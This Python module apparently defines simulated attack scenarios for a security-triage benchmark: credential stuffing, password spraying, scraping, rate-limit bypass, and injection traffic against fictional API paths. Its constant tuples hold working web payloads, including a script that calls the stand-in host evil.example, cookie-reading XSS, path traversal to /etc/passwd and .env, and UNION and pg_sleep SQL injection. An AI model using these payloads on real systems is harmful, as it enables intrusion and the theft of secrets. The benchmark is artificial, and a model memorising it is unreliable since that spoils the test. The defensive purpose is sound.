"""Attackers who take more care."""

from ... import effects as fx
from ...builder import Builder
from ...causes import attack
from ...causes.edge import PEOPLE_AGENTS
from ...scenario import Scenario, Told

RUNBOOKS = ("triage", "security")


def stuffing(b: Builder) -> Told:
    """Stolen pairs of names and passwords, each tried once, from hundreds of addresses."""
    return attack.logins(
        b,
        key="stuffing",
        addresses=fx.strangers(b, "stuffing", 280),
        agents=PEOPLE_AGENTS,
        accounts=[f"u{i:05d}" for i in range(4000, 5000)],
        per_min=b.between("rate", 50, 90),
        success=0.015,
    )


def spraying(b: Builder) -> Told:
    """One password against many accounts, slowly."""
    return attack.logins(
        b,
        key="spraying",
        addresses=fx.strangers(b, "spraying", 12),
        agents=("Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 Firefox/115.0",),
        accounts=[f"u{i:05d}" for i in range(300, 420)],
        per_min=b.between("rate", 5, 8),
        broken_in="u00347",
    )


XSS = (
    "/api/browse?genre=%3Cscript%3Efetch(%27//evil.example/{hex}%27)%3C/script%3E",
    "/api/browse?genre=%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E",
    "/api/browse?genre=javascript:alert(document.cookie)",
)
TRAVERSAL = (
    "/api/media/thumbnail?file=..%2f..%2f..%2fetc%2fpasswd",
    "/api/media/thumbnail?file=%252e%252e%252f%252e%252e%252fproc/self/environ",
    "/api/media/thumbnail?file=....//....//.env",
)
ENCODED = (
    "/api/browse?sort=%2527%2520OR%2520%25271%2527%253D%25271",
    "/api/browse?sort=name/**/UNION/**/SELECT/**/email/**/FROM/**/users",
    "/api/browse?sort=1%29%20AND%20%28SELECT%20{id}%20FROM%20PG_SLEEP%28{small}%29%29%20IS%20NULL--",
)


def script_and_path(b: Builder) -> Told:
    """Cross-site scripting and path traversal from two addresses with an ordinary browser's name."""
    return attack.injection(
        b,
        urls={"/api/browse": XSS, "/api/media/thumbnail": TRAVERSAL},
        addresses=fx.strangers(b, "xss", 2),
        agents=PEOPLE_AGENTS[:1],
        per_min=b.between("rate", 18, 35),
        blocked=0.15,
        kinds=("xss_attempt",),
        broken=0.05,
    )


def encoded(b: Builder) -> Told:
    """SQL injection, encoded twice or with comments, a few a minute."""
    return attack.injection(
        b,
        urls={"/api/browse": ENCODED},
        addresses=fx.strangers(b, "encoded", 3),
        agents=("Mozilla/5.0 (compatible; research)",),
        per_min=b.between("rate", 8, 14),
        blocked=0.0,
        kinds=("sql_injection_attempt",),
        severity="P3",
    )


def distributed(b: Builder) -> Told:
    """The catalogue copied from a hundred home connections, all of them with the same old browser."""
    return attack.scraping(
        b,
        paths={
            "/api/pitches": ("/api/pitches?page={id}&limit=50",),
            "/api/pitches/search": ("/api/pitches/search?q=a&page={id}",),
        },
        addresses=fx.strangers(b, "homes", 110),
        agents=("Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 Chrome/76.0 Safari/537.36",),
        per_min=b.between("rate", 90, 150),
    )


def turning(b: Builder) -> Told:
    """One session, one agent, and every request from another address of the same network."""
    return attack.bypass(
        b,
        path="/api/browse",
        per_min=b.between("rate", 80, 150),
        addresses=fx.strangers(b, "turning", 220, "185.220.44."),
        agent="node-fetch/3.3.2",
        metadata='{{"session":"s-u03131"}}',
        user="u03131",
        urls=("/api/browse?page={n}&limit=100",),
        texts=("session of u03131 seen from {waiting} addresses within 60 s",),
    )


SCENARIOS = (
    Scenario(
        name="credential_stuffing",
        title="Stolen passwords tried on a busy evening",
        cause="brute_force",
        steps=stuffing,
        split="tune",
        runbooks=RUNBOOKS,
        beside=("busy_evening",),
    ),
    Scenario(
        name="password_spraying",
        title="One password against many accounts, another service complains",
        cause="brute_force",
        steps=spraying,
        split="tune",
        runbooks=RUNBOOKS,
        onset_min=(40, 60),
        beside=("noisy_neighbour",),
    ),
    Scenario(
        name="xss_and_traversal",
        title="Scripts and paths injected, another service complains",
        cause="injection_attack",
        steps=script_and_path,
        split="tune",
        runbooks=RUNBOOKS,
        beside=("noisy_neighbour",),
    ),
    Scenario(
        name="injection_encoded",
        title="Injection in disguise, a few a minute",
        cause="injection_attack",
        steps=encoded,
        split="tune",
        runbooks=RUNBOOKS,
        onset_min=(20, 30),
    ),
    Scenario(
        name="scraping_distributed",
        title="Catalogue copied from many homes, an unrelated deployment before",
        cause="scraping",
        steps=distributed,
        split="tune",
        runbooks=RUNBOOKS,
        beside=("unrelated_deployment",),
    ),
    Scenario(
        name="bypass_turning",
        title="One client, many addresses, while a crawler visits",
        cause="rate_limit_bypass",
        steps=turning,
        split="tune",
        runbooks=RUNBOOKS,
        beside=("crawler_visit",),
    ),
)
